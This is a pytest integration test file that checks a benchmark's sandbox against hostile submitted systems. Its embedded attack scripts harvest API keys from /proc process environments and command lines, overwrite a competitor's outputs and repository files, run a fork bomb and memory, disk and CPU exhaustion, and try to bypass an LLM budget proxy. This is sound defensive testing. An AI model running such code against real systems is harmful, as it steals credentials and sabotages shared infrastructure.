"""Hostile systems through the real system stage (`stages/run_system.py`, as `dvc repro` runs it), sandboxed by
default (reportbench.systems.sandbox; docs/reliability.md "Sandbox").

One project in a temp folder: the DeepScholar demo release (two tasks), the demo's `careful_writer` (a folder
system: the competitor) and one `command` system per attack. The stage runs under a shell whose command line,
and with an environment that, hold fake provider keys. Each attacker attacks on the first task and writes a
plain report on the second (so that no stage fails as a whole). Every case ends with the attack refused, the
task's outcome recorded with the reason, the competitor's inputs and run outputs byte-identical (so its scores
cannot change), and no fragment of a key anywhere a system could write.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from reportbench import pipeline
from reportbench.config import composed_params
from reportbench.release.format import read_release
from reportbench.systems.sandbox import unavailable_reason

pytestmark = pytest.mark.integration

B = "deepscholar"
KEYS = {
    "OPENAI_API_KEY": "sk-fake-openai-" + "9f3c1a7e5b2d4c6e8a0b1d3f5e7c9a1b",
    "ANTHROPIC_API_KEY": "sk-ant-fake-" + "4d2b9e7c1a3f5e8d0c2b4a6e8f0d2c4b",
    "GEMINI_API_KEY": "AIzaFake" + "7c5e3a1f9d8b6c4e2a0f8d6b4c2e0a8f",
    "TAVILY_API_KEY": "tvly-fake-" + "1e3c5a7f9b2d4f6a8c0e2b4d6f8a0c2e",
}
CMDLINE_KEY = "sk-cmdline-fake-" + "6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e6b"  # on a parent's command line
ESCAPE = f"ESCAPE_{uuid.uuid4().hex[:12]}"

HOSTILE = r'''
import json, os, socket, sys, time
mode, attack_id, task_json, out = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
task = json.load(open(task_json, encoding="utf-8"))
REPORT = ("## Related Work\n\nPrior work exists [1].\n\n## References\n\n"
          "[1] Depth-k Pooling Revisited. arXiv:2313.01042\n")
if task["task_id"] != attack_id:
    open(out, "w").write(REPORT)
    sys.exit(0)
notes = []

def attempt(label, fn):
    try:
        fn()
        notes.append(f"{label}: DONE")
    except Exception as exc:
        notes.append(f"{label}: refused ({type(exc).__name__}: {exc})")

if mode == "steal":
    keys = json.loads(os.environ.get("HOSTILE_LOOK_FOR", "[]")) or []
    found, pids = 0, 0
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        pids += 1
        for what in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{what}", "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            for v in data.replace("\0", "\n").splitlines():
                if "API_KEY=" in v or "-fake-" in v or "Fake" in v:
                    found += 1
                    for place in ("/" + sys.argv[5] + ".txt", os.getcwd() + "/" + sys.argv[5] + ".txt"):
                        try:
                            open(place, "a").write(v + "\n")  # exfiltrate
                        except OSError:
                            pass
                    open(out + ".loot", "a").write(v + "\n")
    leaked = [k for k in os.environ if k.endswith("_API_KEY")]
    import pwd
    who = pwd.getpwuid(os.getuid()).pw_name  # it can look itself up (as root: the sandbox's own passwd entry)
    open(out, "w").write(REPORT.replace("Prior work exists", f"Seen {pids} processes; found {found} key lines; "
                                        f"own key variables {len(leaked)}; uid {os.getuid()} {who}"))
    sys.exit(0)
if mode == "write_other":
    for target in sys.argv[5:]:
        attempt(target, lambda t=target: open(t, "w").write("## Hijacked\n\nNothing.\n"))
elif mode == "write_repo":
    for target in sys.argv[5:]:
        attempt(target, lambda t=target: open(t, "w").write("owned\n"))
    home = os.path.join(os.path.expanduser("~"), os.path.basename(sys.argv[5 + 2]))
    open(home, "w").write("owned\n")  # its home is a private, empty folder: this succeeds and goes nowhere
elif mode == "fork_bomb":
    n = 0
    try:
        while n < 400:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            n += 1
        notes.append(f"forked {n}: DONE")
    except OSError as exc:
        notes.append(f"forked {n} then refused ({type(exc).__name__}: {exc})")
        print(f"fork refused after {n}: {exc}", file=sys.stderr)
elif mode == "memory_hog":
    hoard = []
    try:
        for _ in range(16):
            hoard.append(bytearray(64 * 1024 * 1024))
        notes.append(f"held {len(hoard) * 64} MB: DONE")
    except MemoryError:
        print(f"MemoryError after {len(hoard) * 64} MB", file=sys.stderr)
        sys.exit(1)
elif mode == "disk_filler":
    chunk = b"x" * (1024 * 1024)
    folder = os.path.dirname(out)
    for i in range(200):  # 200 MB in 1 MB files, into its own output folder
        with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as f:
            f.write(chunk)
        time.sleep(0.01)
    notes.append("wrote 200 MB: DONE")
elif mode == "big_file":
    with open(out, "wb") as f:
        for _ in range(64):
            f.write(b"x" * (1024 * 1024))
    notes.append("wrote 64 MB into one file: DONE")
elif mode == "spin":
    t0 = time.time()
    while time.time() - t0 < 15:
        pass
    notes.append("spun 15 s: DONE")
elif mode == "network":
    port = int(sys.argv[5])
    def reach():
        s = socket.create_connection(("127.0.0.1", port), timeout=3)
        s.sendall(b"stolen")
        s.close()
    attempt(f"127.0.0.1:{port}", reach)
print("\n".join(notes), file=sys.stderr)
if any(n.endswith("DONE") for n in notes):
    open(out, "w").write(REPORT.replace("Prior work exists", "; ".join(notes)))
    sys.exit(0)
sys.exit(1)
'''


def _digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _fragments(secret: str, n: int = 12) -> list[str]:
    return [secret[i : i + n] for i in range(0, len(secret) - n + 1)]


@pytest.fixture(scope="module")
def project(repo_root: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The demo project with the competitor's run done; the attackers are added per test."""
    if unavailable_reason():
        pytest.fail(f"the sandbox is required here: {unavailable_reason()}")  # CI installs bubblewrap
    proj = tmp_path_factory.mktemp("hostile") / "proj"
    shutil.copytree(repo_root / "data" / "demo" / B, proj / "data" / "demo" / B)
    (proj / "hostile.py").write_text(HOSTILE, encoding="utf-8")
    params = composed_params(conf_dir=repo_root / "conf")
    params["benchmarks"][B]["release"]["max_tasks"] = 2
    release = proj / "data" / "releases" / B / "demo"
    cwd = os.getcwd()
    os.chdir(proj)
    try:
        pipeline.build_release(params, B, release)
    finally:
        os.chdir(cwd)
    ids = [t.task_id for t in read_release(release, B).tasks]
    state = {"proj": proj, "params": params, "release": release, "attack_id": ids[0], "ids": ids}
    _stage(state, "careful_writer")
    state["competitor"] = {
        "inputs": _digest(proj / "data" / "demo" / B / "systems" / "careful_writer"),
        "run": _digest(_run_dir(state, "careful_writer")),
    }
    return state


def _run_dir(state: dict[str, Any], system: str) -> Path:
    return state["proj"] / "data" / "runs" / B / "demo" / system


def _stage(
    state: dict[str, Any], system: str, entry: dict[str, Any] | None = None, *, as_user: int | None = None
) -> subprocess.CompletedProcess:
    """`stages/run_system.py` as `dvc repro` runs it, under a shell holding a key on its command line; with
    `as_user`, the stage runs as that (non-root) uid in a user namespace: the sandbox's unprivileged path."""
    proj, params = state["proj"], state["params"]
    if entry is not None:
        params["benchmarks"][B]["systems"][system] = entry
    (proj / "params.yaml").write_text(yaml.safe_dump(params), encoding="utf-8")
    stage = Path(__file__).resolve().parents[1] / "stages" / "run_system.py"
    release = state["release"].relative_to(proj)
    args = f"--benchmark {B} --system {system} --release {release} --out {_run_dir(state, system).relative_to(proj)}"
    script = f'"{sys.executable}" "{stage}" {args}; exit $?'
    env = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY")}
    env.update(KEYS)
    env.update(LITELLM_LOCAL_MODEL_COST_MAP="True", LITELLM_MODE="PRODUCTION", DVC_NO_ANALYTICS="1")
    env["HOSTILE_LOOK_FOR"] = "[]"  # not passed to the system (not in its pass_env): must stay unseen
    argv = ["/bin/sh", "-c", script, "sh", CMDLINE_KEY]
    if as_user is not None:
        argv = ["unshare", "--user", f"--map-user={as_user}", f"--map-group={as_user}", *argv]
    return subprocess.run(argv, cwd=proj, env=env, capture_output=True, text=True, timeout=300)


def _attack(
    state: dict[str, Any], name: str, mode: str, *extra: str, as_user: int | None = None, **sandbox: Any
) -> dict[str, Any]:
    entry: dict[str, Any] = {
        "kind": "command",
        "cmd": [sys.executable, "hostile.py", mode, state["attack_id"], "{task_json}", "{output}", *extra],
        "timeout_s": 20,
        "format": "markdown",
    }
    if sandbox:
        entry["sandbox"] = sandbox
    proc = _stage(state, name, entry, as_user=as_user)
    assert proc.returncode == 0, proc.stderr[-3000:]
    run = _run_dir(state, name)
    outcomes = {o["task_id"]: o for o in map(json.loads, (run / "outcomes.jsonl").read_text().splitlines())}
    box = json.loads((run / "sandbox.json").read_text())
    assert box["backend"] == "bwrap", box
    benign = outcomes[state["ids"][1]]
    assert benign["status"] == "ok", benign  # the other task of the same system is untouched
    _assert_competitor_unchanged(state)
    _assert_no_key_anywhere(state)
    return {"outcome": outcomes[state["attack_id"]], "sandbox": box, "stderr": proc.stderr, "run": run}


def _assert_competitor_unchanged(state: dict[str, Any]) -> None:
    proj = state["proj"]
    assert _digest(proj / "data" / "demo" / B / "systems" / "careful_writer") == state["competitor"]["inputs"]
    assert _digest(_run_dir(state, "careful_writer")) == state["competitor"]["run"]


def _assert_no_key_anywhere(state: dict[str, Any]) -> None:
    frags = [f.encode() for k in [*KEYS.values(), CMDLINE_KEY] for f in _fragments(k)]
    places = [p for p in state["proj"].rglob("*") if p.is_file() and p.name != "params.yaml"]
    places += [p for base in (Path("/"), Path.home(), Path("/tmp")) for p in base.glob("ESCAPE_*")]
    for path in places:
        data = path.read_bytes()
        hit = next((f for f in frags if f in data), None)
        assert hit is None, f"a key fragment {hit!r} reached {path}"
    assert not list(Path("/").glob(f"{ESCAPE}*")), "a file was written outside the project"


def test_key_theft_through_proc_finds_no_key(project: dict[str, Any]) -> None:
    got = _attack(project, "thief", "steal", ESCAPE)
    out = got["outcome"]
    assert out["status"] == "ok", out
    body = next(
        json.loads(line)["body"]
        for line in (got["run"] / "reports.jsonl").read_text().splitlines()
        if json.loads(line)["task_id"] == project["attack_id"]
    )
    # its own PID namespace: the launcher and itself (a handful), none of the stage's processes; no key
    seen = int(body.split("Seen ", 1)[1].split(" ", 1)[0])
    assert seen <= 5, body
    assert "found 0 key lines" in body and "own key variables 0" in body, body
    uid = int(body.split("; uid ", 1)[1].split(" ", 1)[0])
    assert uid != 0 and (os.geteuid() != 0 or (uid >= 3_000_000_000 and " sandbox" in body)), body
    assert not list(got["run"].rglob("*.loot")), "only the declared output leaves the sandbox"


def test_writing_into_another_systems_folder_is_refused(project: dict[str, Any]) -> None:
    proj = project["proj"]
    targets = [
        str(proj / "data" / "demo" / B / "systems" / "careful_writer" / f"{project['attack_id']}.md"),
        str(_run_dir(project, "careful_writer") / "reports.jsonl"),
        str(_run_dir(project, "careful_writer") / "raw" / f"{project['attack_id']}.md"),
    ]
    got = _attack(project, "saboteur", "write_other", *targets)
    out = got["outcome"]
    assert out["status"] == "failed" and "exit code 1" in out["reason"], out
    assert "refused" in out["reason"] and "DONE" not in out["reason"], out


def test_writing_into_the_repository_and_outside_is_refused(project: dict[str, Any]) -> None:
    proj = project["proj"]
    targets = [str(proj / "params.yaml"), str(proj / "hostile.py"), str(proj / f"{ESCAPE}.txt"), f"/{ESCAPE}.txt"]
    before = (proj / "hostile.py").read_bytes()
    got = _attack(project, "escaper", "write_repo", *targets)
    out = got["outcome"]
    assert out["status"] == "failed" and "DONE" not in out["reason"], out
    assert (proj / "hostile.py").read_bytes() == before
    assert not (proj / f"{ESCAPE}.txt").exists() and not Path(f"/{ESCAPE}.txt").exists()
    assert not (Path.home() / f"{ESCAPE}.txt").exists()


NOBODY = 65534


def _unprivileged_or_skip() -> None:
    """The unprivileged path needs a user namespace to start the stage in (CI runs as root)."""
    if os.geteuid() != 0 and os.geteuid() != NOBODY:
        return  # already unprivileged: the plain cases above are this path
    probe = subprocess.run(["unshare", "--user", f"--map-user={NOBODY}", f"--map-group={NOBODY}", "id", "-u"],
                           capture_output=True, text=True)  # fmt: skip
    if probe.returncode != 0 or probe.stdout.strip() != str(NOBODY):
        pytest.skip(f"no user namespace to run the stage unprivileged in: {probe.stderr.strip()[:200]}")


def test_the_unprivileged_path_holds_too(project: dict[str, Any]) -> None:
    """A user who is not root gets bwrap's user-namespace path (no uid switch, `--unshare-user
    --disable-userns`): key theft, writes into a competitor's folder, the repository and outside are refused."""
    _unprivileged_or_skip()
    proj = project["proj"]
    got = _attack(project, "thief_nr", "steal", ESCAPE, as_user=NOBODY)
    body = next(json.loads(line)["body"] for line in (got["run"] / "reports.jsonl").read_text().splitlines()
                if json.loads(line)["task_id"] == project["attack_id"])  # fmt: skip
    assert "found 0 key lines" in body and "own key variables 0" in body, body
    assert int(body.split("; uid ", 1)[1].split(" ", 1)[0]) == NOBODY, body  # unprivileged: it keeps the user's uid
    assert int(body.split("Seen ", 1)[1].split(" ", 1)[0]) <= 5, body
    targets = [str(proj / "data" / "demo" / B / "systems" / "careful_writer" / f"{project['attack_id']}.md"),
               str(_run_dir(project, "careful_writer") / "reports.jsonl"), str(proj / "params.yaml"),
               str(proj / f"{ESCAPE}.txt"), f"/{ESCAPE}.txt"]  # fmt: skip
    got = _attack(project, "saboteur_nr", "write_other", *targets, as_user=NOBODY)
    out = got["outcome"]
    assert out["status"] == "failed" and "refused" in out["reason"] and "DONE" not in out["reason"], out
    assert not (proj / f"{ESCAPE}.txt").exists() and not Path(f"/{ESCAPE}.txt").exists()


def test_a_fork_bomb_is_stopped_at_the_process_limit(project: dict[str, Any]) -> None:
    got = _attack(project, "bomber", "fork_bomb", processes=32)
    out = got["outcome"]
    assert out["status"] == "failed" and "sandbox: processes limit 32 reached" in out["reason"], out
    forked = int(out["reason"].split("fork refused after ", 1)[1].split(":", 1)[0])
    assert forked < 32, out
    assert got["sandbox"]["limits"]["processes"] == 32


def test_a_memory_hog_is_stopped_at_the_memory_limit(project: dict[str, Any]) -> None:
    got = _attack(project, "hog", "memory_hog", memory_mb=256)
    out = got["outcome"]
    assert out["status"] == "failed" and "sandbox: memory_mb limit 256 MB reached" in out["reason"], out
    assert got["sandbox"]["tasks"][project["attack_id"]]["max_rss_mb"] < 300


def test_a_disk_filler_is_killed_at_the_disk_limit(project: dict[str, Any]) -> None:
    got = _attack(project, "filler", "disk_filler", disk_mb=20)
    out = got["outcome"]
    assert out["status"] == "failed" and "sandbox: disk_mb limit 20 MB reached" in out["reason"], out
    assert not list(got["run"].rglob("fill-*")), "nothing but the declared output leaves the sandbox"


def test_one_huge_file_stops_at_the_file_size_limit(project: dict[str, Any]) -> None:
    got = _attack(project, "bigfile", "big_file", file_size_mb=8)
    out = got["outcome"]
    assert out["status"] == "failed" and "sandbox: file_size_mb limit 8 MB reached" in out["reason"], out
    assert "File too large" in out["reason"], out  # Python ignores SIGXFSZ: the write fails with EFBIG


def test_a_cpu_spinner_is_stopped_at_the_cpu_limit(project: dict[str, Any]) -> None:
    got = _attack(project, "spinner", "spin", cpu_s=1)
    out = got["outcome"]
    assert out["status"] == "failed" and "sandbox: cpu_s limit 1 s reached (killed by SIGXCPU)" in out["reason"], out
    assert got["sandbox"]["tasks"][project["attack_id"]]["cpu_s"] < 3


def test_direct_network_to_a_loopback_listener_is_unreachable(project: dict[str, Any]) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(0.2)
    try:
        got = _attack(project, "caller", "network", str(listener.getsockname()[1]))
        with pytest.raises(TimeoutError):
            listener.accept()  # nobody called
    finally:
        listener.close()
    out = got["outcome"]
    assert out["status"] == "failed" and "refused (ConnectionRefusedError" in out["reason"], out


def test_an_unsandboxed_system_is_recorded_as_such(project: dict[str, Any]) -> None:
    """`sandbox: none` is the explicit opt-out: it runs, and its run says it was unsandboxed."""
    entry = {"kind": "command", "cmd": [sys.executable, "hostile.py", "steal", "-", "{task_json}", "{output}"],
             "timeout_s": 20, "sandbox": "none"}  # fmt: skip
    proc = _stage(project, "optout", entry)
    assert proc.returncode == 0, proc.stderr[-2000:]
    box = json.loads((_run_dir(project, "optout") / "sandbox.json").read_text())
    assert box["backend"] == "none" and box["unsandboxed"] is True and box["opted_out_by"] == "config"


# ------------------------------------------------------------------------------------- a swapped-in agent adapter
ADAPTER_ATTACK = r'''
import json, os, socket, sys, urllib.request
req = json.loads(sys.stdin.read())
found, pids = 0, 0
for pid in os.listdir("/proc"):
    if pid.isdigit():
        pids += 1
        for what in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{what}", "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            found += sum(1 for v in data.split("\0") if "API_KEY=" in v or "-fake-" in v or "Fake" in v)
try:  # the upstream LLM directly, around the budget proxy
    s = socket.create_connection(("127.0.0.1", int(req["options"]["upstream"])), timeout=3)
    s.sendall(b"POST /v1/chat/completions HTTP/1.0\r\nContent-Length: 2\r\n\r\n{}")
    direct = "reached"
except OSError as exc:
    direct = type(exc).__name__
body = json.dumps({"model": req["llm"]["model"], "messages": [{"role": "user", "content": "through the proxy"}]})
rq = urllib.request.Request(req["llm"]["base_url"].rstrip("/") + "/chat/completions", data=body.encode(),
                            headers={"Authorization": "Bearer " + os.environ["REPORTBENCH_AGENT_LLM_KEY"],
                                     "Content-Type": "application/json"})
proxied = urllib.request.urlopen(rq, timeout=30).status
wrote = []
for target in req["options"]["targets"]:
    try:
        open(target, "w").write("owned")
        wrote.append(target)
    except OSError:
        pass
print(json.dumps({"report_markdown": f"## Findings\n\nSeen {pids} processes; found {found} key lines; upstream "
                  f"{direct}; proxy {proxied}; wrote {len(wrote)}.\n", "outcome": "ok"}))
'''


def test_a_swapped_in_agent_adapter_reaches_only_the_budget_proxy(
    project: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Untrusted code inside an agent kind's process (here: the whole adapter, swapped in through the kind's venv)
    reads /proc for keys, calls the upstream LLM directly and writes outside: none of it works; its one call
    through the budget proxy does."""
    from agent_stubs import ScriptedLLM

    proj = project["proj"]
    home = proj.parent / "agents-home"
    venv = home / "smolagents_deep_research" / "venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "attack.py").write_text(ADAPTER_ATTACK, encoding="utf-8")
    (venv / "bin" / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" -I "{venv / "attack.py"}"\n')
    (venv / "bin" / "python").chmod(0o755)
    (home / "smolagents_deep_research" / "lock.txt").write_text("attack==1\n")
    targets = [str(_run_dir(project, "careful_writer") / "reports.jsonl"), str(proj / f"{ESCAPE}.txt"),
               f"/{ESCAPE}.txt", str(home / "smolagents_deep_research" / "lock.txt")]  # fmt: skip
    with ScriptedLLM(lambda body: {"content": "fine"}) as llm:
        entry = {
            "kind": "smolagents_deep_research",
            "model": "openai/stub-agent",
            "api_base": llm.base_url,
            "price": {"input_per_mtok": 1.0, "output_per_mtok": 2.0},
            "budget": {"llm_calls": 5, "wall_s": 60},
            "options": {"upstream": llm.port, "targets": targets},
        }
        monkeypatch.setenv("REPORTBENCH_AGENTS_HOME", str(home))  # the stage's environment (a fake venv)
        proc = _stage(project, "swapped", entry)
        bodies = llm.chat_bodies()
    assert proc.returncode == 0, proc.stderr[-3000:]
    run = _run_dir(project, "swapped")
    box = json.loads((run / "sandbox.json").read_text())
    assert box["backend"] == "bwrap" and box["fetch_proxy"] is True, box
    reports = [json.loads(line) for line in (run / "reports.jsonl").read_text().splitlines()]
    assert reports, (run / "outcomes.jsonl").read_text()
    for report in reports:
        body = report["body"]
        assert int(body.split("Seen ", 1)[1].split(" ", 1)[0]) <= 5, body
        assert "found 0 key lines" in body and "upstream ConnectionRefusedError" in body, body
        assert "proxy 200" in body and "wrote 0." in body, body
    assert [b["messages"][-1]["content"] for b in bodies] == ["through the proxy"] * len(reports)
    assert (home / "smolagents_deep_research" / "lock.txt").read_text() == "attack==1\n"
    _assert_competitor_unchanged(project)
    _assert_no_key_anywhere(project)
